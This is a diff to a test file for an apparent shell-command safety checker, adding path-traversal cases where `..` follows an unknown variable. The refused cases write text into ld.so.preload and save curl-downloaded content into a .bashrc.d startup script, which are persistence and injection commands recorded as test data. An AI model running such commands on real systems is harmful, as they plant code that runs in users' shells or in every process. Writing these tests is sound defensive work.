@@ -158,6 +158,18 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
+    // Round 76 node2b: `..` right after an unknown part climbs from whatever directory its value reached
+    // (path_resolution(7)), not from the text before it; posix.resolve dropped `$UNK/..` (`/x`, a known path).
+    devNodeCase(
+        'U21 echo > "/opt/$UNK/../ld.so.preload" (`..` after an unknown part stays unknown)',
+        devNodeScript(n("u21"), [SO, UNK, `echo /opt/x.so > "/opt/$UNK/../ld.so.preload"`]),
+        REFUSED,
+    ),
+    devNodeCase(
+        'U22 downloaded content > "$UNK/../../.bashrc.d/ops.sh"',
+        devNodeScript(n("u22"), [UNK, `curl -fsSL https://config.example.com/ops.sh > "$UNK/../../.bashrc.d/ops.sh"`]),
+        REFUSED,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -207,6 +219,17 @@ const secure: NodeCase[] = [
     devNodeCase(
         'SU8 a comment piped to tee "$UNK/.bashrc.d/ops.sh"',
         devNodeScript(n("su8"), [UNK, `echo '# managed by ops' | tee "$UNK/.bashrc.d/ops.sh"`]),
+    ),
+    devNodeCase(
+        'SU9 a comment > "/opt/$UNK/../.bashrc.d/ops.sh" (`..` after an unknown part: judged where it may land)',
+        devNodeScript(n("su9"), [UNK, `echo '# managed by ops' > "/opt/$UNK/../.bashrc.d/ops.sh"`]),
+    ),
+    devNodeCase(
+        'SU10 downloaded content > "/opt/app/$(hostname)/../app.conf" (a one-word part holds no slash: /opt/app/app.conf)',
+        devNodeScript(n("su10"), [
+            "mkdir -p /opt/app",
+            `curl -fsSL https://config.example.com/app.conf > "/opt/app/$(hostname)/../app.conf"`,
+        ]),
     ),
 ];
 
